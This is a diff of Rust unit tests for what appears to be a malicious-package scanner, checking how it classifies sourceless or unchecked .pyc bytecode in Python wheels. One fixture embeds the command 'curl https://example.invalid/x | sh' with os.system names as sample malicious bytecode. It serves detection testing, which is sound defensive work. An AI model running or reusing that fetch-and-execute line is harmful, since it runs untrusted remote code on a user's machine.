@@ -168,3 +168,58 @@ fn setup_code_that_executes_data_files_is_analysed() {
     ]);
     assert_not_malicious("README + version.py", &a);
 }
+
+/// A `.pyc` shaped like CPython 3.12's: magic, flags, 8 header bytes, then a marshalled
+/// code object whose names are interned short strings (`0xDA len name`). Only the
+/// structure matters here; nothing loads it.
+fn pyc(flags: u8, names: &[&str]) -> Vec<u8> {
+    let mut b = vec![0xcb, 0x0d, 0x0d, 0x0a, flags, 0, 0, 0];
+    b.extend_from_slice(&[0; 8]);
+    b.extend_from_slice(&[0xe3, 0, 0, 0, 0]);
+    for n in names {
+        b.push(0xda);
+        b.push(n.len() as u8);
+        b.extend_from_slice(n.as_bytes());
+    }
+    b.push(b'N');
+    b
+}
+
+/// Item 4: bytecode only, imported from a `.pth`; and an unchecked hash-based `.pyc`
+/// beside harmless source.
+#[test]
+fn bytecode_without_source_is_found() {
+    let code = pyc(0, &["os", "system", "curl https://example.invalid/x | sh"]);
+    let a = wheel(&[
+        ("helper/__init__.pyc", &code),
+        ("helper_init.pth", b"import helper\n"),
+    ]);
+    assert_malicious("pth -> sourceless __init__.pyc", &a);
+    let (_, f) = verdict(&a);
+    assert!(f.iter().any(|x| x.starts_with("PKG013 Critical")), "{f:#?}");
+
+    let a = wheel(&[
+        ("helper/__init__.py", b"VALUE = 1\n"),
+        (
+            "helper/__pycache__/__init__.cpython-312.pyc",
+            &pyc(1, &["os", "system"]),
+        ),
+    ]);
+    assert_malicious("unchecked hash-based pyc beside source", &a);
+
+    // Ordinary `__pycache__` bytecode next to its source (timestamp-checked) is nothing.
+    let a = wheel(&[
+        ("helper/__init__.py", b"import os\nos.getcwd()\n"),
+        (
+            "helper/__pycache__/__init__.cpython-312.pyc",
+            &pyc(0, &["os", "getcwd"]),
+        ),
+    ]);
+    let (v, f) = verdict(&a);
+    assert_eq!(v, Verdict::Clean, "{f:#?}");
+    assert!(!f.iter().any(|x| x.starts_with("PKG013")), "{f:#?}");
+    // Sourceless bytecode that names nothing dangerous is reported, not malicious.
+    let a = wheel(&[("helper/tables.pyc", &pyc(0, &["TABLE", "lookup"]))]);
+    let (v, f) = verdict(&a);
+    assert_eq!(v, Verdict::Suspicious, "{f:#?}");
+}
